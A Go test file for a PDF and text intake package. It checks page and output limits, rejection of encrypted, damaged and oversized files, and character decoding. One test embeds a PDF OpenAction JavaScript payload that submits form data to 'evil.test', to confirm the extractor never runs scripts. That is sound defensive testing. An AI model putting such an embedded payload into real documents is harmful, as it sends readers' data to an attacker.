package document

import (
	"bytes"
	"errors"
	"fmt"
	"os/exec"
	"strings"
	"testing"
	"time"
)

func needsProgram(t *testing.T) {
	t.Helper()
	if _, err := exec.LookPath("pdftotext"); err != nil {
		t.Fatal("pdftotext is not installed: run scripts/setup-debian")
	}
}

// written is a PDF with the objects after the catalog and the pages, which are objects 1 and 2.
func written(catalog string, pages int, content string, more ...string) []byte {
	var b bytes.Buffer
	var at []int
	object := func(body string) {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", len(at), body)
	}
	b.WriteString("%PDF-1.4\n")
	object("<< /Type /Catalog /Pages 2 0 R " + catalog + " >>")
	kids := strings.Builder{}
	for i := range pages {
		fmt.Fprintf(&kids, "%d 0 R ", 5+i)
	}
	object(fmt.Sprintf("<< /Type /Pages /Kids [ %s] /Count %d >>", kids.String(), pages))
	object("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	object(fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(content), content))
	for range pages {
		object("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " +
			"/Resources << /Font << /F1 3 0 R >> >> >>")
	}
	for _, body := range more {
		object(body)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(at)+1)
	for _, offset := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", offset)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(at)+1, start)
	return b.Bytes()
}

func showing(text string) string {
	return "BT /F1 12 Tf 72 700 Td (" + text + ") Tj ET"
}

func TestFindingD10PagesAreLimited(t *testing.T) {
	t.Parallel()
	needsProgram(t)
	began := time.Now()
	got, err := Read(t.Context(), written("", 5000, showing("Policy period")))
	if err != nil || !got.Cut || strings.Count(got.Text, "Policy period") != maxPages {
		t.Errorf("5,000 pages: %d read, cut %t, %v", strings.Count(got.Text, "Policy period"), got.Cut, err)
	}
	if took := time.Since(began); took > maxWait {
		t.Errorf("5,000 pages took %v", took)
	}
	got, err = Read(t.Context(), written("", maxPages, showing("Policy period")))
	if err != nil || got.Cut {
		t.Errorf("%d pages: cut %t, %v", maxPages, got.Cut, err)
	}
	got, err = Read(t.Context(), written("", 3, strings.Repeat(showing(strings.Repeat("word ", 200))+"\n", 100)))
	if err != nil || len(got.Text) > maxOutput {
		t.Errorf("much text: %d bytes, %v", len(got.Text), err)
	}
}

// A script is part of the file, and pdftotext does not run it.
func TestFindingD10ScriptsAreNotRun(t *testing.T) {
	t.Parallel()
	needsProgram(t)
	script := "/OpenAction << /S /JavaScript /JS (this.submitForm\\('https://evil.test'\\); app.alert\\(1\\)) >>"
	got, err := Read(t.Context(), written(script, 1, showing("Named insured: Alice")))
	if err != nil || strings.TrimSpace(got.Text) != "Named insured: Alice" {
		t.Errorf("read %q, %v", got.Text, err)
	}
}

func TestFindingD10FilesThatAreNotRead(t *testing.T) {
	t.Parallel()
	needsProgram(t)
	locked := "<< /Filter /Standard /V 1 /R 2 /O <" + strings.Repeat("28", 32) + "> /U <" + strings.Repeat("29", 32) + "> /P -4 >>"
	encrypted := bytes.Replace(written("", 1, showing("secret"), locked), []byte("/Root 1 0 R"),
		[]byte("/Root 1 0 R /Encrypt 6 0 R /ID [<00><00>]"), 1)
	loop := bytes.Replace(written("", 1, showing("x")), []byte("/Kids [ 5 0 R ]"), []byte("/Kids [ 2 0 R ]"), 1)
	for name, c := range map[string]struct {
		file []byte
		want error
	}{
		"an image": {[]byte("\xff\xd8\xff\xe0JFIF"), errNotPDF}, "nothing": {nil, errNotPDF},
		"11 MB": {append([]byte("%PDF-1.4\n"), make([]byte, maxBytes)...), errTooLarge},
		"cut":   {[]byte("%PDF-1.4\n1 0 obj\n<< /Type"), errDamaged}, "encrypted": {encrypted, errLocked},
		"no text": {written("", 1, "0 0 100 100 re f"), errNoText}, "loop": {loop, nil},
	} {
		_, err := Read(t.Context(), c.file)
		if c.want != nil && !errors.Is(err, c.want) || err == nil {
			t.Errorf("%s: %v, want %v", name, err, c.want)
		}
	}
}

func TestProgramMayBeAbsent(t *testing.T) {
	t.Setenv("PATH", t.TempDir())
	if _, err := Read(t.Context(), written("", 1, showing("x"))); !errors.Is(err, errNoProgram) {
		t.Errorf("without pdftotext: %v", err)
	}
}

func TestReadFile(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		file   string
		text   string
		phrase string
	}{
		"a.csv":     {"name,due\r\nKim,3\r\n", "name,due\r\nKim,3\r\n", ""},
		"mark.txt":  {"\xef\xbb\xbfKim owes 3 \u20ac", "Kim owes 3 \u20ac", ""},
		"excel.csv": {"Jos\xe9,3 \x80", "Jos\u00e9,3 \u20ac", ""},
		"wide.txt":  {"\xff\xfeK\x00i\x00m\x00", "", "intake.document.not_text"},
		"photo.jpg": {"\xff\xd8\xff\xe0\x00\x10JFIF", "", "intake.document.not_text"},
		"empty.txt": {" \n", "", "intake.document.not_text"},
		"bad.pdf":   {"Kim", "", "intake.document.not_pdf"},
	} {
		got := ReadFile(t.Context(), name, []byte(c.file))
		if got.Name != name || got.Text.Text != c.text || got.Phrase() != c.phrase {
			t.Errorf("%s: %+v, %q", name, got, got.Phrase())
		}
	}
	needsProgram(t)
	got := ReadFile(t.Context(), "a.PDF", written("", 1, showing("Named insured: Alice")))
	if strings.TrimSpace(got.Text.Text) != "Named insured: Alice" || got.Phrase() != "" {
		t.Errorf("a PDF: %+v", got)
	}
}
